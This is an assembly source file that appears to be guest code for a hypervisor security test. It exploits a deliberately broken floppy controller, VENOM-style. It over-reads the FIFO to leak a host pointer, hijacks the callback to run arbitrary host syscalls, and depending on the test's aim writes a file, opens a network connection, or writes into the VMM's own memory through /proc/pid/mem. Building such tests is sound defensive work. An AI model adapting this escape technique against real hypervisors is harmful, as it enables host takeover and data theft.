# Breaks into the host of the broken floppy controller of the tests, as a guest can that knows its program: reads behind the
# FIFO where the program and the controller are, then writes behind it what is to be called and with what. Each system call
# that it has made in the host is told on the console; the aim is chosen by the test, which fills in what follows the code.
#
# Ports: 0x3f4 data rate select (bit 7: reset), 0x3f5 FIFO. Behind the 512 bytes of the FIFO lie a callback, six words that it
# is called with, of which the first is the controller's address at first, and what it returned.

.equ CONTROL, 0x3f4
.equ DATA, 0x3f5
.equ FIFO_BYTES, 512
.equ BEHIND, 64                   # callback, arguments, answer
.equ BEFORE, 16                   # of the controller, before its FIFO

.equ IMAGE, 0x200000              # of the FIFO and what lies behind it, as it is to be or as it was read
.equ TEXT, IMAGE + 8              # where what calls point at begins: the first byte is the command's
.equ CALLBACK, IMAGE + FIFO_BYTES
.equ ARGUMENTS, CALLBACK + 8
.equ ANSWER, ARGUMENTS + 48
.equ CANARY, 0x300000             # in memory that the controller was never granted
.equ LINE, 0x201000               # a line of a file that is being read
.equ TEXT_BYTES, 496

# Kept from the leak on.
.equ SYSCALL, 0x202000            # address of the C library's `syscall` in the host
.equ REMOTE_TEXT, 0x202008        # address of TEXT there

.globl cofferdam_venom_guest_start, cofferdam_venom_guest_end
cofferdam_venom_guest_start:
    cld
    mov rax, 0x6e72616320656874   # "the canary" as far as it goes
    mov qword ptr [CANARY], rax
    call over_read
    mov rax, [CALLBACK]
    add rax, [rip + venom_distance]
    mov [SYSCALL], rax
    mov rax, [ARGUMENTS]
    add rax, BEFORE + TEXT - IMAGE
    mov [REMOTE_TEXT], rax

    mov eax, [rip + venom_aim]
    cmp eax, 1
    je venom_disk
    cmp eax, 2
    je venom_network
    cmp eax, 3
    je venom_vmm

    # Leave, with a number that nobody else uses: it shows that calls are made at all.
    mov qword ptr [ARGUMENTS], 60 # exit
    mov qword ptr [ARGUMENTS + 8], 42
    call call_there
    jmp venom_over

venom_disk:
    lea rsi, [rip + venom_path]
    call put_text
    mov edx, 1                    # O_WRONLY
    call open_there
    mov rbx, rax
    lea rsi, [rip + venom_mark]
    call put_text
    xor r8d, r8d
    call write_there
    jmp venom_over

venom_network:
    mov qword ptr [ARGUMENTS], 41 # socket
    mov qword ptr [ARGUMENTS + 8], 2
    mov qword ptr [ARGUMENTS + 16], 1
    mov qword ptr [ARGUMENTS + 24], 0
    call call_there
    mov [ARGUMENTS + 8], rax
    mov rax, [rip + venom_address]
    mov [TEXT], rax
    mov qword ptr [TEXT + 8], 0
    mov qword ptr [ARGUMENTS], 42 # connect
    mov rax, [REMOTE_TEXT]
    mov [ARGUMENTS + 16], rax
    mov qword ptr [ARGUMENTS + 24], 16
    call call_there
    jmp venom_over

venom_vmm:
    # Its parent is the supervisor, whose youngest child is the VMM.
    mov qword ptr [ARGUMENTS], 110 # getppid
    call call_there
    mov rbp, rax
    mov edi, TEXT
    lea rsi, [rip + venom_proc]
    call append
    mov rax, rbp
    call append_number
    lea rsi, [rip + venom_task]
    call append
    mov rax, rbp
    call append_number
    lea rsi, [rip + venom_children]
    call append
    xor edx, edx
    call open_there
    test rax, rax
    js venom_over
    mov rbx, rax
    call read_there
    test rax, rax
    jle venom_over
    lea rsi, [rax + TEXT]         # numbers, each with a space behind it
    dec rsi
1:  dec rsi
    cmp byte ptr [rsi], ' '
    jne 1b
    inc rsi
    xor ebp, ebp
2:  lodsb
    cmp al, ' '
    je 3f
    movzx eax, al
    sub eax, '0'
    imul rbp, rbp, 10
    add rbp, rax
    jmp 2b

    # Where it has the first 16 MiB of this guest's memory.
3:  lea rsi, [rip + venom_maps]
    call open_of_vmm
    test rax, rax
    js venom_over
    mov rbx, rax
    mov r12d, LINE
4:  call read_there
    test rax, rax
    jle venom_over
    mov esi, TEXT
    mov rcx, rax
5:  lodsb
    mov [r12], al
    inc r12
    cmp al, 10
    jne 6f
    call look_at_line
    mov r12d, LINE
    test rax, rax
    jnz 7f
6:  loop 5b
    jmp 4b

7:  mov r13, rax
    lea rsi, [rip + venom_mem]
    call open_of_vmm
    mov rbx, rax
    lea rsi, [rip + venom_mark]
    call put_text
    lea r8, [r13 + CANARY]
    call write_there

venom_over:
    mov al, 'C'
    mov rbx, [CANARY]
    call tell
    lea rsi, [rip + venom_bye]
8:  lodsb
    test al, al
    jz cofferdam_venom_guest_end  # another guest's code follows
    call put
    jmp 8b

# In the line that ends before r12: the address of a mapping of 16 MiB of guest memory, or 0. Keeps rsi and rcx.
look_at_line:
    push rsi
    push rcx
    xor eax, eax
    mov edi, LINE
1:  lea rdx, [rdi + 4]
    cmp rdx, r12
    ja 9f
    cmp dword ptr [rdi], 0x6d61723a # ":ram"
    je 2f
    inc rdi
    jmp 1b
2:  mov esi, LINE
    call hex
    mov rdi, rdx
    call hex
    sub rdx, rdi
    xor eax, eax
    cmp rdx, 0x1000000
    cmove rax, rdi
9:  pop rcx
    pop rsi
    ret

# rdx: the number of hexadecimal digits at rsi, which is left behind the character that ends it.
hex:
    xor edx, edx
1:  lodsb
    movzx eax, al
    cmp al, '0'
    jb 3f
    cmp al, '9'
    ja 2f
    sub eax, '0'
    jmp 4f
2:  cmp al, 'a'
    jb 3f
    cmp al, 'f'
    ja 3f
    sub eax, 'a' - 10
4:  shl rdx, 4
    add rdx, rax
    jmp 1b
3:  ret

# ---- calls in the host -----------------------------------------------------------------------------------------------

# A file of the VMM's own, /proc/rbp/rsi, to be read and written.
open_of_vmm:
    push rsi
    mov edi, TEXT
    lea rsi, [rip + venom_proc]
    call append
    mov rax, rbp
    call append_number
    pop rsi
    call append
    mov edx, 2                    # O_RDWR
    cmp dword ptr [rsi - 5], 0x7370616d # "maps"
    jne open_there
    xor edx, edx

open_there:                       # TEXT, rdx: flags
    mov [ARGUMENTS + 16], rdx
    mov qword ptr [ARGUMENTS], 2
    mov rax, [REMOTE_TEXT]
    mov [ARGUMENTS + 8], rax
    mov qword ptr [ARGUMENTS + 24], 0
    jmp call_there

read_there:                       # rbx: descriptor, to TEXT
    mov qword ptr [ARGUMENTS], 0
    mov [ARGUMENTS + 8], rbx
    mov rax, [REMOTE_TEXT]
    mov [ARGUMENTS + 16], rax
    mov qword ptr [ARGUMENTS + 24], TEXT_BYTES
    jmp call_quietly

write_there:                      # rbx: descriptor, r8: offset; eight bytes of TEXT
    mov qword ptr [ARGUMENTS], 18 # pwrite64
    mov [ARGUMENTS + 8], rbx
    mov rax, [REMOTE_TEXT]
    mov [ARGUMENTS + 16], rax
    mov qword ptr [ARGUMENTS + 24], 8
    mov [ARGUMENTS + 32], r8

call_there:                       # rax: what the call returned, which is told
    call call_quietly
    push rax
    push rbx
    mov rbx, rax
    mov al, 'S'
    call tell
    pop rbx
    pop rax
    ret

call_quietly:
    mov rax, [SYSCALL]
    mov [CALLBACK], rax
    mov dx, DATA
    mov esi, IMAGE
    mov byte ptr [rsi], 0x8e      # DRIVE SPECIFICATION, which never ends
    mov ecx, FIFO_BYTES + 56
1:  lodsb
    out dx, al
    loop 1b
    mov dx, CONTROL
    mov al, 0x80
    out dx, al
    # `syscall` returns -1 for an error and puts its number elsewhere; that it failed is enough here.
    call over_read_only
    mov rax, [ANSWER]
    ret

over_read:
    call over_read_only
    mov dx, CONTROL
    mov al, 0x80
    out dx, al
    ret

over_read_only:                   # IMAGE
    mov dx, DATA
    mov al, 0x0e
    out dx, al
    mov edi, IMAGE
    mov ecx, FIFO_BYTES + BEHIND
1:  in al, dx
    stosb
    loop 1b
    ret

# ---- text ------------------------------------------------------------------------------------------------------------

put_text:                         # rsi, ends with 0, to TEXT
    mov edi, TEXT
append:                           # rsi, ends with 0, to rdi, which is left at the 0
    lodsb
    mov [rdi], al
    inc rdi
    test al, al
    jnz append
    dec rdi
    ret

append_number:                    # rax, in decimal, to rdi
    mov ecx, 10
    xor r9d, r9d
1:  xor edx, edx
    div rcx
    push rdx
    inc r9d
    test rax, rax
    jnz 1b
2:  pop rax
    add al, '0'
    stosb
    dec r9d
    jnz 2b
    ret

tell:                             # al: a letter, rbx: a number
    call put
    mov r9d, 16
1:  rol rbx, 4
    mov al, bl
    and al, 15
    add al, '0'
    cmp al, '9'
    jbe 2f
    add al, 'a' - '0' - 10
2:  call put
    dec r9d
    jnz 1b
    mov al, 10

put:                              # al
    mov ah, al
    mov dx, 0x3fd
1:  in al, dx
    test al, 0x20
    jz 1b
    mov al, ah
    mov dx, 0x3f8
    out dx, al
    ret

venom_proc: .asciz "/proc/"
venom_task: .asciz "/task/"
venom_children: .asciz "/children"
venom_maps: .asciz "/maps"
venom_mem: .asciz "/mem"
venom_mark: .asciz "ESCAPED"
venom_bye: .asciz "over\n"

# Filled in by the test.
.globl cofferdam_venom_guest_aim
.balign 8
cofferdam_venom_guest_aim:
venom_aim: .quad 0
venom_distance: .quad 0           # from the callback to `syscall`
venom_address: .quad 0            # the first half of a `struct sockaddr_in`
venom_path: .zero 256
cofferdam_venom_guest_end:
